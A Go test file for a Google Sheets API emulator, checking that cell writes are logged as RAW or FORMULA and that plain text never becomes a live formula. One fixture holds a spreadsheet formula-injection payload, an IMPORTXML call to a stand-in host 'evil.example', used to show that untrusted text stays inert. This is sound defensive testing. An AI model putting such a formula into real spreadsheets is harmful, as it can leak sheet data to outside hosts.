package emulator

import (
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"

	sheets "google.golang.org/api/sheets/v4"
)

// Invariant 2 is checked by asserting every ValueInputOptions entry is "RAW". The writes go
// through spreadsheets.batchUpdate updateCells, which has no valueInputOption, so the log
// classifies what those cells would store: "RAW" for stringValue/numberValue/boolValue (never
// parsed), "FORMULA" as soon as one cell carries a formulaValue. These go through the real
// Go client, so they see the JSON it actually sends.

func formulaCell(f string) *sheets.CellData {
	return &sheets.CellData{UserEnteredValue: &sheets.ExtendedValue{FormulaValue: &f}}
}

func numberCell(x float64) *sheets.CellData {
	return &sheets.CellData{UserEnteredValue: &sheets.ExtendedValue{NumberValue: &x}}
}

func boolCell(b bool) *sheets.CellData {
	return &sheets.CellData{UserEnteredValue: &sheets.ExtendedValue{BoolValue: &b}}
}

func TestValueInputOptionsClassifiesUpdateCells(t *testing.T) {
	hostile := `=IMPORTXML("https://evil.example/","//a")`
	at := func(r, c int64) *sheets.GridCoordinate {
		return &sheets.GridCoordinate{SheetId: inboxID, RowIndex: r, ColumnIndex: c}
	}
	cases := []struct {
		name    string
		reqs    []*sheets.Request
		want    []string
		formula bool // whether Inbox D2 holds a formula afterwards
	}{
		{"text, numbers, booleans and a cleared cell are RAW",
			[]*sheets.Request{updateCells(&sheets.UpdateCellsRequest{Start: at(1, 2),
				Rows: []*sheets.RowData{row(str("x@example.com"), str(hostile), numberCell(0), boolCell(false), &sheets.CellData{})}})},
			[]string{"RAW"}, false},
		{"one entry per batchUpdate, however many updateCells",
			[]*sheets.Request{
				updateCells(&sheets.UpdateCellsRequest{Start: at(1, 3), Rows: []*sheets.RowData{row(str("+1"))}}),
				updateCells(&sheets.UpdateCellsRequest{Start: at(2, 3), Rows: []*sheets.RowData{row(str("-1"))}}),
			},
			[]string{"RAW"}, false},
		{"a formulaValue is FORMULA",
			[]*sheets.Request{updateCells(&sheets.UpdateCellsRequest{Start: at(1, 3),
				Rows: []*sheets.RowData{row(formulaCell("=1+1"), str("read"))}})},
			[]string{"FORMULA"}, true},
		{"one formulaValue anywhere in the batch makes it FORMULA",
			[]*sheets.Request{
				updateCells(&sheets.UpdateCellsRequest{Start: at(2, 3), Rows: []*sheets.RowData{row(str("plain"))}}),
				{SortRange: &sheets.SortRangeRequest{Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 1},
					SortSpecs: []*sheets.SortSpec{{DimensionIndex: 5, SortOrder: "ASCENDING"}}}},
				updateCells(&sheets.UpdateCellsRequest{Start: at(1, 2), Rows: []*sheets.RowData{row(str("a"), formulaCell("=2+2"))}}),
			},
			[]string{"FORMULA"}, true},
		{"a range-bounded updateCells is classified too",
			[]*sheets.Request{updateCells(&sheets.UpdateCellsRequest{
				Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 1, EndRowIndex: 2, StartColumnIndex: 3, EndColumnIndex: 4},
				Rows:  []*sheets.RowData{row(formulaCell("=3+3"))}})},
			[]string{"FORMULA"}, true},
		{"a batchUpdate without updateCells has no entry",
			[]*sheets.Request{{SortRange: &sheets.SortRangeRequest{Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 1},
				SortSpecs: []*sheets.SortSpec{{DimensionIndex: 5, SortOrder: "DESCENDING"}}}}},
			nil, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e, svc, _ := newServer(t)
			if err := batch(svc, bookID, c.reqs...); err != nil {
				t.Fatal(err)
			}
			if got := e.ValueInputOptions(); !reflect.DeepEqual(got, c.want) {
				t.Errorf("ValueInputOptions = %q, want %q", got, c.want)
			}
			// The log says what the sheet now holds: FORMULA exactly when a formula was made.
			if got := e.Formula(bookID, "Inbox", 2, 3); got != c.formula {
				t.Errorf("Inbox D2 formula = %v, want %v (cells %v)", got, c.formula, e.Cells(bookID, "Inbox"))
			}
		})
	}
}

// The store's write: updateCells with the written rows asked back, among values writes, in
// the order received; a refused write is logged as received, like a values write; a reset
// empties the log.
func TestValueInputOptionsOrderAcrossKindsOfWrite(t *testing.T) {
	e, svc, _ := newServer(t)
	vr := &sheets.ValueRange{Values: [][]any{{"v"}}}
	if _, err := svc.Spreadsheets.Values.Update(bookID, "Inbox!B2", vr).ValueInputOption("RAW").Do(); err != nil {
		t.Fatal(err)
	}
	_, err := svc.Spreadsheets.BatchUpdate(bookID, &sheets.BatchUpdateSpreadsheetRequest{
		Requests: []*sheets.Request{updateCells(&sheets.UpdateCellsRequest{
			Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 2, ColumnIndex: 4}, Rows: []*sheets.RowData{row(str("done"))}})},
		IncludeSpreadsheetInResponse: true, ResponseIncludeGridData: true, ResponseRanges: []string{"Inbox!1:1", "Inbox!3:3"},
	}).Do()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Spreadsheets.Values.Append(bookID, "Inbox!A:F", vr).ValueInputOption("USER_ENTERED").Do(); err != nil {
		t.Fatal(err)
	}
	// Outside the grid: refused (updateCells never grows it), nothing written, still logged.
	err = batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
		Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 5000, ColumnIndex: 0}, Rows: []*sheets.RowData{row(formulaCell("=1"))}}))
	if ge := apiErr(t, err); ge.Code != http.StatusBadRequest {
		t.Fatalf("write outside the grid: %v", ge)
	}
	want := []string{"RAW", "RAW", "USER_ENTERED", "FORMULA"}
	if got := e.ValueInputOptions(); !reflect.DeepEqual(got, want) {
		t.Errorf("ValueInputOptions = %q, want %q", got, want)
	}
	e.ResetCounts()
	if got := e.ValueInputOptions(); len(got) != 0 {
		t.Errorf("after ResetCounts: %q", got)
	}
}

// Bodies the Go client would not send, decoded as updateCells decodes them: a null
// formulaValue is no formula; field names match case-insensitively, the request kind
// exactly (an unknown kind is refused and writes nothing).
func TestValueInputOptionsRawBodies(t *testing.T) {
	cases := []struct {
		body string
		want []string
	}{
		{`{"requests":[{"updateCells":{"start":{"sheetId":3,"rowIndex":1,"columnIndex":3},"fields":"userEnteredValue",
			"rows":[{"values":[{"userEnteredValue":{"stringValue":"=1+1","formulaValue":null}}]}]}}]}`, []string{"RAW"}},
		{`{"requests":[{"updateCells":{"start":{"sheetId":3,"rowIndex":1,"columnIndex":3},"fields":"userEnteredValue",
			"rows":[{"values":[{"UserEnteredValue":{"FormulaValue":"=1+1"}}]}]}}]}`, []string{"FORMULA"}},
		{`{"requests":[{"UpdateCells":{"start":{"sheetId":3,"rowIndex":1,"columnIndex":3},"fields":"userEnteredValue",
			"rows":[{"values":[{"userEnteredValue":{"formulaValue":"=1+1"}}]}]}}]}`, nil},
		{`not json`, nil},
	}
	for i, c := range cases {
		e := New()
		e.AddWorkbook(testWorkbook())
		rec := httptest.NewRecorder()
		e.ServeHTTP(rec, httptest.NewRequest(http.MethodPost, "/v4/spreadsheets/"+bookID+":batchUpdate", strings.NewReader(c.body)))
		if got := e.ValueInputOptions(); !reflect.DeepEqual(got, c.want) {
			t.Errorf("case %d (answered %d): ValueInputOptions = %q, want %q", i, rec.Code, got, c.want)
		}
		if formula := e.Formula(bookID, "Inbox", 2, 3); formula != (len(c.want) == 1 && c.want[0] == "FORMULA") {
			t.Errorf("case %d (answered %d): Inbox D2 formula = %v", i, rec.Code, formula)
		}
	}
}
